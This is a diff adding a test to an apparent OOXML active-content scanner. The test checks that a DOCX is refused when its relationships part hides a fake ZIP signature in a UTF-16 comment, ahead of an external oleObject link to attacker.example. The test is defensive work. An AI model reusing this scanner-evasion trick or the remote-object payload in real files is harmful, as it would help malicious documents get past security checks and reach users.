@@ -163,6 +163,22 @@ describe("OOXML active content", () => {
     expect(reasons(chunk("chunk1.html"))).toEqual([]);
   });
 
+  it("refuses a stored XML part of unknown size (data descriptor): a fake signature in its text would end the read early", () => {
+    // In UTF-16LE the bytes "PK\x07\x08" are the characters U+4B50 U+0807, valid in an XML
+    // comment: the read stopped there and the relationship after it was never seen.
+    const rels = relsWith(`<!--\u4b50\u0807--><Relationship Id="rId9" Type="${R}/oleObject" Target="http://attacker.example/x" TargetMode="External"/>`);
+    const file = docx({ "word/_rels/document.xml.rels": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels, "utf16le")]) }, contentTypes(), 0);
+    const local = file.indexOf("word/_rels/document.xml.rels") - 30;
+    expect(file.readUInt32LE(local)).toBe(0x04034b50);
+    file.writeUInt16LE(file.readUInt16LE(local + 6) | 0x08, local + 6); // bit 3: sizes follow the data
+    file.writeUInt32LE(0, local + 18);
+    file.writeUInt32LE(0, local + 22);
+    const found = check(file);
+    expect(found.map((f) => f.reason)).toEqual(["unscannable"]);
+    expect(found[0]!.detail).toMatch(/stored without its size/);
+    expect(reasons(file)).toEqual(["unscannable"]);
+  });
+
   it("refuses a [Content_Types].xml it cannot read: truncated, another method, a DTD, named only in the central directory", () => {
     const whole = docx();
     const data = whole.indexOf("[Content_Types].xml") + "[Content_Types].xml".length; // fflate writes no extra field
